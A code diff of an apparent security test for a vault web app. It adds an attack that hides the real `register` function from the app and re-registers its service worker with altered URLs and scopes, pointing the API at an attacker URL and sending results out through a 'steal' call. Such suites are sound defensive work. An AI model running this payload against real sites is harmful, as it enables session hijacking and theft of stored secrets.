@@ -1,10 +1,18 @@
 import { attack } from "../attack.js";
 
-export default attack({
+/** `register` as the browser has it. */
+declare const genuineRegister: ServiceWorkerContainer["register"];
+
+const registerAgain = attack({
   name: "register the worker again, with another URL, scope or query",
   threat: "single-execution theft",
   target: "strongroom",
   leavesWorkers: true,
+  hook() {
+    Object.assign(globalThis, { genuineRegister: ServiceWorkerContainer.prototype.register });
+    // The app must not notice: without its own worker it would leave the page for a new session, and end the payload.
+    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
+  },
   async payload(it) {
     const config = encodeURIComponent(JSON.stringify({ api: [{ url: `${it.attackerUrl}/` }] }));
     for (const [url, options] of [
@@ -18,8 +26,8 @@ export default attack({
       ["/vault-worker.js", { type: "module", scope: "/module/" }],
       [`/vault-worker.js?${config}`, { updateViaCache: "all", scope: "/x/" }],
     ] as [string, RegistrationOptions][]) {
-      const registration = await navigator.serviceWorker
-        .register(it.scriptUrl(url), options)
+      const registration = await genuineRegister
+        .call(navigator.serviceWorker, it.scriptUrl(url), options)
         .catch((error: unknown) => void it.steal(String(error)));
       const worker = registration?.installing ?? registration?.waiting ?? registration?.active;
       const { port1, port2 } = new MessageChannel();
@@ -39,4 +47,13 @@ export default attack({
       // Of another origin.
     }
   },
+  async play(stage) {
+    stage.hook([]);
+    await stage.openSignedIn();
+    stage.hook([registerAgain]);
+    await stage.openUnconnected();
+    await stage.inject();
+  },
 });
+
+export default registerAgain;
